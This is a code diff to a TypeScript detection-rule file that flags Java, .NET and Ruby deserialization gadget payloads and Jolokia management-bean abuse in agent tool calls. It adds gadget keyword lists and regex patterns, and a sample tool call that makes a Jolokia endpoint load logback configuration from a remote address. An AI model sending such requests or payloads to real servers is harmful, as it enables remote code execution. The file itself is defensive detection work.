@@ -56,9 +56,9 @@ export const java: readonly PatternRule[] = [
     nearMiss: { tool: 'set_cookie', arguments: { value: 'rOABXNyABFqYXZhLnV0aWw' } },
     source: 'CWE-502; OWASP CRS 944200, 944210',
     roles: ['path', 'url', 'host', 'markup', 'prose', 'address', 'value', 'secret', 'shell', 'powershell', 'cmd', 'code', 'sql'],
-    literals: ['ro0ab', 'kztaax', 'aced0005', '\u00ac\u00ed\u0000\u0005', '\\xac\\xed', 'aaeaaad', 'invokertransformer', 'templatesimpl', 'jdbcrowsetimpl', 'commonscollections', 'commonsbeanutils', 'typeconfusedelegate', 'objectdataprovider', 'windowsidentity', 'resourceset', 'unsorted-priority-queue', '/wey', 'instantiatetransformer', 'constanttransformer', 'chainedtransformer', 'badattributevalueexp', 'jrmpclient', 'jrmplistener', 'drivermanagerconnectionsource', 'jndirefforwardingdatasource', 'beanfactory', 'xmldecoder'],
+    literals: ['ro0ab', 'kztaax', 'aced0005', '\u00ac\u00ed\u0000\u0005', '\\xac\\xed', 'aaeaaad', 'invokertransformer', 'templatesimpl', 'jdbcrowsetimpl', 'commonscollections', 'commonsbeanutils', 'typeconfusedelegate', 'objectdataprovider', 'windowsidentity', 'resourceset', 'unsorted-priority-queue', '/wey', 'instantiatetransformer', 'constanttransformer', 'chainedtransformer', 'badattributevalueexp', 'jrmpclient', 'jrmplistener', 'drivermanagerconnectionsource', 'jndirefforwardingdatasource', 'beanfactory', 'xmldecoder', 'objectstateformatter', 'expandedwrapper', 'assemblyinstaller', 'losformatter', 'netdatacontractserializer'],
     pattern:
-      /(?:^|[^A-Za-z0-9+/])(?:rO0AB[A-Za-z0-9+/]{6}|KztAAX[A-Za-z0-9+/]{4}|AAEAAAD\/{3,6})|aced0005(?:7[0-9a-f])|\u00ac\u00ed[^ -~\u0080-\uffff]{2}|\\xac\\xed\\x00\\x05|(?:functors\.)(?:InvokerTransformer|InstantiateTransformer|ConstantTransformer|ChainedTransformer)|xalan\.(?:internal\.)?xsltc\.trax\.TemplatesImpl|com\.sun\.rowset\.JdbcRowSetImpl|ysoserial[^\n]{0,60}(?:CommonsCollections|CommonsBeanutils|JRMP|URLDNS|Groovy|Spring)|System\.Windows\.Data\.ObjectDataProvider|TypeConfuseDelegate|java\.beans\.XMLDecoder|DriverManagerConnectionSource|BadAttributeValueExpException|<ObjectDataProvider\b|serialization=["']unsorted-priority-queue|(?:^|["'\s])CommonsCollections[1-7]\b|(?:^|[^A-Za-z0-9+/])\/wEy[A-Za-z0-9+/]{12}/i,
+      /(?:^|[^A-Za-z0-9+/])(?:rO0AB[A-Za-z0-9+/]{6}|KztAAX[A-Za-z0-9+/]{4}|AAEAAAD\/{3,6})|aced0005(?:7[0-9a-f])|\u00ac\u00ed[^ -~\u0080-\uffff]{2}|\\xac\\xed\\x00\\x05|(?:functors\.)(?:InvokerTransformer|InstantiateTransformer|ConstantTransformer|ChainedTransformer)|xalan\.(?:internal\.)?xsltc\.trax\.TemplatesImpl|com\.sun\.rowset\.JdbcRowSetImpl|ysoserial[^\n]{0,60}(?:CommonsCollections|CommonsBeanutils|JRMP|URLDNS|Groovy|Spring)|System\.Windows\.Data\.ObjectDataProvider|TypeConfuseDelegate|java\.beans\.XMLDecoder|System\.Web\.UI\.(?:ObjectStateFormatter|LosFormatter)|\bExpandedWrapper(?:Of|`\d)|System\.Configuration\.Install\.AssemblyInstaller|DriverManagerConnectionSource|BadAttributeValueExpException|<ObjectDataProvider\b|serialization=["']unsorted-priority-queue|(?:^|["'\s])CommonsCollections[1-7]\b|(?:^|[^A-Za-z0-9+/])\/wEy[A-Za-z0-9+/]{12}/i,
     accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length) && view.place.file === '' && !(/^[^A-Za-z0-9]?(?:ro0ab|kztaax|aaeaaad)/i.test(match) && !/rO0AB|KztAAX|AAEAAAD\//.test(match)),
   },
   {
@@ -86,6 +86,19 @@ export const java: readonly PatternRule[] = [
     literals: ['bahv', 'bahb', 'bahjyw', '\u0004\bo:', '\\x04\\x08', '0408', 'gem::requirement', 'gem::installer', 'erb.new', 'activesupport::deprecation'],
     pattern: /(?:^|[^A-Za-z0-9+/])BAh(?:v[A-Za-z0-9+/]{8}|bC[A-Za-z0-9+/]{8})|(?:^|[^\w\s])[^ -~\u0080-\uffff]{2}o:|\\x04\\x08\[?o:?|(?:^|[^0-9a-f])04085b0[68]|Gem::(?:Requirement|Installer|Package|StubSpecification)|ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy|ERB\.new\s*\(/,
     accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length),
+  },
+  {
+    id: 'code.management-bean',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a call of a management bean of Java that loads settings or code from an address, or registers one',
+    positive: { tool: 'http_get', arguments: { url: 'http://app.example.com/jolokia/exec/ch.qos.logback.classic:Name=default,Type=a/reloadByURL/http:!/!/198.51.100.7!/x.xml' } },
+    nearMiss: { tool: 'http_get', arguments: { url: 'http://app.example.com/jolokia/read/java.lang:type=Memory/HeapMemoryUsage' } },
+    source: 'jolokia, JNDI injection and remote code execution, 2018',
+    roles: ALL_ROLES,
+    literals: ['reloadbyurl', 'createjndirealm', 'compilerdirectivesadd', 'jvmtiagentload', 'getmbeansfromurl'],
+    pattern: /\b(?:reloadByURL|getMBeansFromURL)\b[^\s]{0,8}(?:https?|ftp):|\bcreateJNDIRealm\b|\bcompilerDirectivesAdd\b|\bjvmtiAgentLoad\b/i,
+    accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length) && view.place.file === '',
   },
   {
     id: 'code.jdbc-address',
